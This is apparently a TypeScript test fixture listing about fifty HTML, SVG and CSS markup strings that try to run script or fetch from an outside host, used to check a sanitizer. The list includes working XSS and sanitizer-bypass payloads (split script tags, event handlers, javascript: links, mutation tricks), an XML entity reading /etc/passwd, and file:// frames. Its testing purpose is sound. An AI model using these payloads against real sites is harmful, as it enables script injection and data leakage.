/** A white dot, as an allowed image. */
export const DOT =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

type Attack = readonly [name: string, markup: string];

/**
 * For tests: markup that tries to run a script or to fetch from `host`. Scripts try to write the word RAN into the
 * document.
 */
export const attacks = (host: string): readonly Attack[] => {
  const far = `http://${host}`;
  const run = "document.body.append('RAN')";
  const asPage = `data:text/html,<script>${run}</script>`;
  return [
    ["script", `<script>${run}</script>`],
    ["split script", `<scr<script>ipt>${run}</scr</script>ipt>`],
    ["script by URL", `<script src="//${host}/a.js"></script>`],
    ["module by URL", `<script type="module">import "${far}/a.js"</script>`],
    ["event handler", `<img src="${DOT}" onload="${run}"><img src="x" onerror="${run}">`],
    ["event handler on a drawing", `<svg onload="${run}"><g onclick="${run}"></g></svg>`],
    ["javascript link", `<a href="javascript:${run}">x</a>`],
    ["javascript link with blanks", `<a href="java&#x0A;script:${run}">x</a>`],
    ["data link", `<a href="${asPage}">x</a>`],
    ["file link", `<a href="file:///etc/passwd">x</a>`],
    ["file image", `<img src="file:///etc/passwd">`],
    ["far image", `<img src="${far}/a.png">`],
    ["image without protocol", `<img src="//${host}/a.png">`],
    ["image set", `<img src="${DOT}" srcset="${far}/a.png 1x, ${far}/b.png 2x">`],
    ["drawing as image", `<img src="data:image/svg+xml,<svg><image href='${far}/a.png'/></svg>">`],
    [
      "style sheet",
      `<style>@import "${far}/a.css"; p{background:url(${far}/a.png)}</style><p>x</p>`,
    ],
    [
      "font",
      `<style>@font-face{font-family:F;src:url(${far}/a.woff2)}p{font-family:F}</style><p>x</p>`,
    ],
    ["style sheet by link", `<link rel="stylesheet" href="${far}/a.css">`],
    ["prefetch", `<link rel="prefetch" href="${far}/a"><link rel="preconnect" href="${far}">`],
    ["style with a URL", `<p style="background:url(${far}/a.png)">x</p>`],
    ["style with escape", `<p style="background:\\75rl(${far}/a.png)">x</p>`],
    ["style with image set", `<p style="background:image-set('${far}/a.png' 1x)">x</p>`],
    ["style expression", `<p style="width:expression(${run})">x</p>`],
    ["frame", `<iframe src="${far}"></iframe>`],
    ["frame of a file", `<iframe src="file:///etc/passwd"></iframe>`],
    ["frame with its document", `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`],
    ["object", `<object data="${far}/a"></object><embed src="${far}/b">`],
    ["object of data", `<object data="${asPage}"></object>`],
    ["script in a drawing", `<svg><script>${run}</script></svg>`],
    ["page in a drawing", `<svg><foreignObject><iframe src="${far}"/></foreignObject></svg>`],
    ["use of another file", `<svg><use href="${far}/a.svg#x" xlink:href="${far}/a.svg#x"/></svg>`],
    ["image in a drawing", `<svg><image href="${far}/a.png" width="9" height="9"/></svg>`],
    ["remote fill", `<svg><rect width="9" height="9" fill="url(${far}/a.svg#x)"/></svg>`],
    ["animation", `<svg><a><animate attributeName="href" values="javascript:${run}"/></a></svg>`],
    ["reload", `<meta http-equiv="refresh" content="0;url=${far}">`],
    ["base address", `<base href="${far}/"><img src="a.png"><a href="#a">x</a>`],
    [
      "form",
      `<form action="${far}"><input name=a autofocus onfocus="${run}"><button formaction="${far}">x</button></form>`,
    ],
    ["entities", `<p>&#60;img onerror=${run}&#62;</p>&lt;script&gt;${run}&lt;/script&gt;`],
    ["document type", `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>`],
    [
      "comment",
      `<!--[if IE]><script>${run}</script><![endif]--><!-- --!><img src=x onerror="${run}">`,
    ],
    ["raw text", `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`],
    ["mutation", `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`],
    [
      "mathematics",
      `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
    ],
    ["template", `<template><script>${run}</script></template>`],
    ["video", `<video src="${far}/a.mp4" poster="${far}/a.png" autoplay></video>`],
    ["ping and download", `<a href="#a" ping="${far}" download="x">x</a>`],
    [
      "obsolete background attribute",
      `<table background="${far}/a.png"><tr><td>x</td></tr></table>`,
    ],
    ["style sheet of a page", `<style>@page{@top-left{content:url(${far}/a.png)}}</style><p>x</p>`],
    ["unended", `<p>x<img src="${far}/`],
  ];
};
